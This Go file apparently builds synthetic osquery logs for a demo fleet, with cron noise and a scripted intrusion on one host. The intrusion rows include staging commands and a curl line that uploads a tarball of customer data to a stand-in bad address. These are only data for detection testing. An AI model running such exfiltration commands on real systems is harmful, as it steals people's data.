package main

import (
	"fmt"
	"time"

	"github.com/stackjoin/stackjoin/internal/osqueryd"
)

// badAddress is on the sample feed; it is one of those kept for documentation.
const badAddress = "198.51.100.23"

// host is one machine of the fleet: its name and what its osquery will log.
type host struct {
	name  string
	lines []string
	rows  int
	// batch tells that its osqueryd logs in batch form.
	batch bool
	// instance is the EC2 instance that it is, as its decorations tell; empty for
	// others. began is when the attack on it did.
	instance string
	began    time.Time
}

// script writes the lines of one host. Columns and values are those that osquery
// 5.23 has on Linux: no local address on a connect, a time in seconds.
type script struct {
	host *host
	now  time.Time
}

// fleet is three hosts with background noise, and an attack on the first.
func fleet() []*host {
	start := time.Now().Add(-10 * time.Minute).Truncate(time.Second)
	hosts := []*host{{name: "web-01", instance: instance}, {name: "db-01", batch: true}, {name: "build-03"}}
	for i, h := range hosts {
		s := script{host: h, now: start}
		s.boot()
		s.noise(40, 3000*(i+1))
		if i == 0 {
			s.attack()
		}
		s.noise(40, 3000*(i+1)+500)
	}
	return hosts
}

// log writes rows of one run of a query, in the host's form.
func (s *script) log(query string, rows ...osqueryd.Row) {
	line := osqueryd.Line{Name: query, HostIdentifier: s.host.name, Time: s.now, Decorations: map[string]string{"environment": "demo"}}
	if s.host.instance != "" {
		line.Decorations["instance_id"], line.Decorations["account_id"] = s.host.instance, account
	}
	s.host.rows += len(rows)
	if s.host.batch {
		s.host.lines = append(s.host.lines, line.Batch(nil, rows))
		return
	}
	for _, row := range rows {
		s.host.lines = append(s.host.lines, line.Event("added", row))
	}
}

func (s *script) wait(d time.Duration) { s.now = s.now.Add(d) }

// boot lists what runs already, as the processes table does.
func (s *script) boot() {
	started := s.now.Add(-24 * time.Hour).Unix()
	list := func(pid, parent int, path, cmdline string) osqueryd.Row {
		return osqueryd.Row{
			"pid": pid, "parent": parent, "path": path, "cmdline": cmdline, "cwd": "/", "uid": 0, "start_time": started, "name": path,
			"resident_size": 11_000_000,
		}
	}
	s.log("processes",
		list(1, 0, "/usr/lib/systemd/systemd", "/sbin/init"),
		list(640, 1, "/snap/amazon-ssm-agent/amazon-ssm-agent", "/snap/amazon-ssm-agent/amazon-ssm-agent"),
		list(700, 1, "/usr/sbin/cron", "/usr/sbin/cron -f"),
		list(812, 1, "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener]"))
}

// exec is a process_events row of osquery's audit publisher.
func (s *script) exec(pid, parent, uid int, path, cmdline string) {
	s.log("pack_demo_process_events", osqueryd.Row{
		"auid": 1000, "cmdline": cmdline, "cwd": "/home/deploy", "euid": uid, "gid": uid, "mode": "0100755", "parent": parent, "path": path,
		"pid": pid, "syscall": "execve", "time": s.now.Unix(), "uid": uid,
	})
}

// connect is a socket_events row of osquery's audit publisher.
func (s *script) connect(pid int, path, address string, port int) {
	s.log("pack_demo_socket_events", osqueryd.Row{
		"action": "connect", "auid": 1000, "family": 2, "fd": 5, "local_address": "", "local_port": 0, "path": path, "pid": pid, "protocol": 0,
		"remote_address": address, "remote_port": port, "socket": "", "status": "in_progress", "time": s.now.Unix(),
	})
}

// noise is cron jobs that talk to the package mirror.
func (s *script) noise(n, pid int) {
	for i := range n {
		s.wait(2 * time.Second)
		s.exec(pid+2*i, 700, 0, "/usr/bin/dash", "/bin/sh -c /etc/cron.d/job")
		s.exec(pid+2*i+1, pid+2*i, 0, "/usr/bin/curl", fmt.Sprintf("curl -fsS https://mirror.example/check/%d", i))
		s.connect(pid+2*i+1, "/usr/bin/curl", "192.0.2.10", 443)
	}
}

// attack is somebody who came in by SSM, read what was in the mounted bucket, took more
// of it by the API, and sent it away.
func (s *script) attack() {
	s.wait(10 * time.Second)
	s.exec(2050, 1, 0, "/usr/bin/mount-s3", "mount-s3 --read-only "+bucket+" /mnt/customers")
	// The calls of one minute are one link: let none of them fall into the next.
	s.now = s.now.Add(time.Minute).Truncate(time.Minute)
	s.host.began = s.now
	s.exec(2101, 640, 0, "/usr/bin/ssm-session-worker", "/usr/bin/ssm-session-worker "+sessionID)
	s.wait(time.Second)
	s.exec(2102, 2101, 1000, "/usr/bin/bash", "-bash")
	s.wait(20 * time.Second)
	s.exec(2110, 2102, 1000, "/usr/bin/dash", "sh /tmp/.x/collect.sh")
	s.exec(2111, 2110, 1000, "/usr/bin/tar", "tar czf /tmp/.x/b.tgz /mnt/customers/eu/orders.csv")
	s.exec(2112, 2110, 1000, "/usr/bin/aws", "aws s3 cp --recursive s3://"+bucket+"/ /tmp/.x/")
	s.wait(5 * time.Second)
	s.log("pack_demo_file_events", osqueryd.Row{
		"action": "CREATED", "category": "tmp", "target_path": "/tmp/.x/b.tgz", "time": s.now.Unix(), "uid": 1000, "gid": 1000,
		"md5": "", "sha1": "", "sha256": "", "size": 48_110_337,
	})
	s.wait(5 * time.Second)
	s.exec(2114, 2110, 1000, "/usr/bin/curl", "curl -sT /tmp/.x/b.tgz https://"+badAddress+"/u")
	s.connect(2114, "/usr/bin/curl", badAddress, 443)
	s.wait(10 * time.Second)
}
